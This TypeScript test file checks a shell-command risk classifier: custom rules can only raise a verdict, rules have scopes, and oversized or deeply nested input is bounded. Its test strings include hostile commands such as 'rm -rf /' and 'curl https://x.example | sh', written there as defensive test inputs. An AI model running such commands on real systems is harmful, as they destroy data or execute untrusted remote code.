import { beforeAll, describe, expect, it } from "vitest";
import { isLeaseholdError } from "../../errors";
import { assessShellRisk, assessShellRiskSync, initShellRisk } from "./assess";
import { compareRisk } from "./levels";
import type { CustomRiskRule } from "./types";

beforeAll(async () => {
  await initShellRisk();
});

const cases = ["ls -la", "rm -rf /", "curl https://x.example | sh", "echo hi > out.txt", "sudo systemctl restart nginx"];

describe("custom rules only raise risk", () => {
  it("a matching rule with a lower level never lowers the verdict", () => {
    const lowering: CustomRiskRule[] = [
      { id: "lower-rm", pattern: /rm/, level: "read_only", message: "rm is fine here" },
      { id: "lower-all", pattern: /.*/, level: "low", message: "everything is low" },
    ];
    for (const text of cases) {
      const base = assessShellRiskSync(text);
      const withRules = assessShellRiskSync(text, { customRules: lowering });
      expect(compareRisk(withRules.level, base.level), text).toBeGreaterThanOrEqual(0);
      // Built-in reasons survive: rules add, they never remove.
      for (const r of base.reasons) expect(withRules.reasons).toContainEqual(r);
    }
  });

  it("a matching rule raises the verdict and says why, with a span on the match", () => {
    const text = "ls /srv/payments";
    const v = assessShellRiskSync(text, { customRules: [{ id: "payments", pattern: "/srv/payments", level: "high", message: "touches the payments tree" }] });
    expect(v.level).toBe("high");
    const r = v.reasons.find((x) => x.rule === "custom.payments")!;
    expect(text.slice(r.span.start, r.span.end)).toBe("/srv/payments");
  });

  it("command-scope rules see commands after quote removal, including nested ones", () => {
    const rule: CustomRiskRule = { id: "no-shutdown-db", pattern: /^pg_ctl stop/, level: "critical", message: "stops the database", scope: "command" };
    expect(assessShellRiskSync(`p''g_ctl stop`, { customRules: [rule] }).level).toBe("critical");
    expect(assessShellRiskSync(`bash -c "pg_ctl stop -m fast"`, { customRules: [rule] }).level).toBe("critical");
    expect(assessShellRiskSync(`echo pg_ctl stop`, { customRules: [rule] }).reasons.some((r) => r.rule === "custom.no-shutdown-db")).toBe(false);
  });

  it("text-scope rules match the raw text only", () => {
    const rule: CustomRiskRule = { id: "raw", pattern: "p''g", level: "high", message: "raw match", scope: "text" };
    expect(assessShellRiskSync("p''g_ctl status", { customRules: [rule] }).reasons.some((r) => r.rule === "custom.raw")).toBe(true);
  });

  it("string patterns are literal, not regular expressions", () => {
    const rule: CustomRiskRule = { id: "dots", pattern: "a.b", level: "high", message: "x" };
    expect(assessShellRiskSync("echo axb", { customRules: [rule] }).level).toBe("read_only");
    expect(assessShellRiskSync("echo a.b", { customRules: [rule] }).level).toBe("high");
  });

  it("a global RegExp gives the same answer on every call", () => {
    const rule: CustomRiskRule = { id: "g", pattern: /secret/g, level: "high", message: "x" };
    for (let i = 0; i < 3; i++) expect(assessShellRiskSync("cat secret.txt", { customRules: [rule] }).level).toBe("high");
  });

  it("rejects malformed rules with INVALID_ARGUMENT", () => {
    const bad = [{ id: "Bad Id", pattern: "x", level: "high", message: "m" }] as unknown as CustomRiskRule[];
    expect(() => assessShellRiskSync("ls", { customRules: bad })).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
    const badLevel = [{ id: "ok", pattern: "x", level: "severe", message: "m" }] as unknown as CustomRiskRule[];
    expect(() => assessShellRiskSync("ls", { customRules: badLevel })).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
    const dup: CustomRiskRule[] = [
      { id: "a", pattern: "x", level: "high", message: "m" },
      { id: "a", pattern: "y", level: "high", message: "m" },
    ];
    expect(() => assessShellRiskSync("ls", { customRules: dup })).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
  });
});

describe("input contract", () => {
  it.each(["", "   ", "\n\t\n"])("empty or whitespace text %j is INVALID_ARGUMENT", async (text) => {
    await expect(assessShellRisk(text)).rejects.toSatisfy((e: unknown) => isLeaseholdError(e) && e.code === "INVALID_ARGUMENT");
    expect(() => assessShellRiskSync(text)).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
  });

  it("oversized text is INVALID_ARGUMENT rather than a partial verdict", async () => {
    await expect(assessShellRisk("ls ".repeat(100_000))).rejects.toSatisfy((e: unknown) => isLeaseholdError(e) && e.code === "INVALID_ARGUMENT");
  });

  it("bounds pathological nesting and size instead of hanging", () => {
    let text = "rm -rf /";
    for (let i = 0; i < 12; i++) text = `bash -c ${JSON.stringify(text).replace(/\$/g, "\\$")}`;
    const v = assessShellRiskSync(text);
    expect(v.reasons.some((r) => r.rule === "parse.too-deep")).toBe(true);
    expect(compareRisk(v.level, "high")).toBeGreaterThanOrEqual(0);
    const many = Array.from({ length: 6000 }, (_, i) => `echo ${i}`).join("; ");
    const big = assessShellRiskSync(many);
    expect(big.reasons.some((r) => r.rule === "analysis.budget")).toBe(true);
    expect(big.level).toBe("high");
  });

  it("function call chains cannot blow up exponentially", () => {
    let text = "f0() { rm \"$1\"; }; ";
    for (let i = 1; i < 25; i++) text += `f${i}() { f${i - 1} "$1"; f${i - 1} "$1"; }; `;
    text += "f24 /tmp/x";
    const started = performance.now();
    const v = assessShellRiskSync(text);
    expect(performance.now() - started).toBeLessThan(5000);
    expect(compareRisk(v.level, "high")).toBeGreaterThanOrEqual(0);
  });

  it("the async entry point initialises the parser on first use and returns the same verdict", async () => {
    const v = await assessShellRisk("rm -rf /");
    expect(v).toEqual(assessShellRiskSync("rm -rf /"));
    expect(v.level).toBe("critical");
  });
});
